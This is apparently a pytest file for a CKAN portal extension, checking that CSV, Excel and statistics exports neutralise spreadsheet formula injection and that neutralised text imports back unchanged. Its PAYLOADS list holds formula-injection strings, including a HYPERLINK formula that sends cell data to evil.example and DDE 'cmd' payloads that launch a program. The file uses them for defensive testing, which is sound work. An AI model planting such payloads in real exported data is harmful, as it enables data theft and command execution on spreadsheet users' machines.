"""Formula injection (issue 11, item 7): no exported cell is run as a
formula by a spreadsheet. CSV cells that begin with = + - @ (or a tab or
carriage return) get a leading apostrophe; Excel cells are typed text; the
portal's own CSV export reads back to the same values."""

import csv
import io

import builders
import openpyxl
import pytest
from ckan.tests import helpers
from reads_portal import headers, publish, reads_portal  # noqa: F401 (fixture)

from ckanext.simore.exports import formulas
from ckanext.simore.imports import formats

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
]


@pytest.fixture
def injected(reads_portal):
    """Records whose texts begin like formulas, written by a coordinator
    and by a focal point (a published action)."""
    mechanism = builders.mechanism(
        "coordinacion", code="FORMULA", title_translated={"es": PAYLOADS[3], "en": PAYLOADS[3]}
    )
    institution = builders.institution(name="formula", title=PAYLOADS[1])
    recommendation = builders.recommendation(
        "coordinacion",
        mechanism["name"],
        institutions=[institution["name"]],
        text_translated={"es": PAYLOADS[0], "en": PAYLOADS[1], "fr": PAYLOADS[5]},
        document_symbol=PAYLOADS[2],
        paragraph=PAYLOADS[4].strip(),
    )
    act = builders.action(
        "salud", [recommendation["name"]], _user="focal-salud", title_translated={"es": PAYLOADS[0], "en": PAYLOADS[3]}
    )
    publish(act["id"])
    return recommendation


def _cells(rows):
    return [cell for row in rows for cell in row]


def _assert_no_formula_cell(cells):
    risky = [cell for cell in cells if isinstance(cell, str) and cell.startswith(formulas.TRIGGERS)]
    assert not risky, risky


@pytest.mark.parametrize("package_type", ["recommendation", "action"])
def test_csv_export_cells_never_start_a_formula(app, injected, package_type):
    body = app.get("/export/{}.csv".format(package_type)).data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = _cells(rows[1:])
    _assert_no_formula_cell(cells)
    # the payloads are there, marked as text
    assert "'" + PAYLOADS[0] in cells
    assert "'" + PAYLOADS[3] in cells


@pytest.mark.parametrize("package_type", ["recommendation", "action"])
def test_excel_export_cells_are_text_never_formulas(app, injected, package_type):
    body = app.get("/export/{}.xlsx".format(package_type)).data
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type in ("f", "e")]
    values = [cell.value for cell in cells]
    # the exact texts, typed as text
    assert PAYLOADS[0] in values and PAYLOADS[3] in values
    assert all(cell.data_type == "s" for cell in cells if cell.value in PAYLOADS)


def test_json_export_keeps_the_texts_as_they_are(app, injected):
    records = app.get("/export/recommendation.json").json
    texts = [r.get("text_es") for r in records]
    assert PAYLOADS[0] in texts


@pytest.mark.parametrize("chart", ["mechanism", "institution"])
def test_statistics_chart_csv_labels_never_start_a_formula(app, injected, chart):
    body = app.get("/statistics/{}.csv".format(chart)).data.decode("utf-8")
    cells = _cells(csv.reader(io.StringIO(body)))
    _assert_no_formula_cell(cells)
    assert "'" + PAYLOADS[3 if chart == "mechanism" else 1] in cells


def test_round_compliance_csv_never_starts_a_formula(app, injected):
    round_ = builders.reporting_round(title="=1+1", due_date="2030-03-31", fq="mechanism:formula")
    response = app.get(
        "/dashboard/coordination/round/{}.csv".format(round_["id"]),
        headers={
            "Authorization": helpers.call_action(
                "api_token_create", context={"user": "coordinadora"}, user="coordinadora", name="t"
            )["token"]
        },
    )
    cells = _cells(csv.reader(io.StringIO(response.data.decode("utf-8"))))
    _assert_no_formula_cell(cells)
    assert "'" + PAYLOADS[1] in cells


@pytest.mark.parametrize("value", PAYLOADS + ["'=already quoted", "plain", "", 12])
def test_the_portal_reads_its_own_csv_export_back_unchanged(value):
    assert formulas.restored(formulas.neutralised(value)) == value


def test_an_exported_csv_row_imports_with_its_original_text():
    exported = {
        "name": "rec-1",
        "text_es": formulas.neutralised(PAYLOADS[0]),
        "document_symbol": formulas.neutralised(PAYLOADS[2]),
    }
    parse = formats.parser(formats.SIMORE, {}, ["es", "en", "fr"])
    record = parse((2, exported))
    assert record.texts == {"es": PAYLOADS[0]}
    assert record.fields["document_symbol"] == PAYLOADS[2]
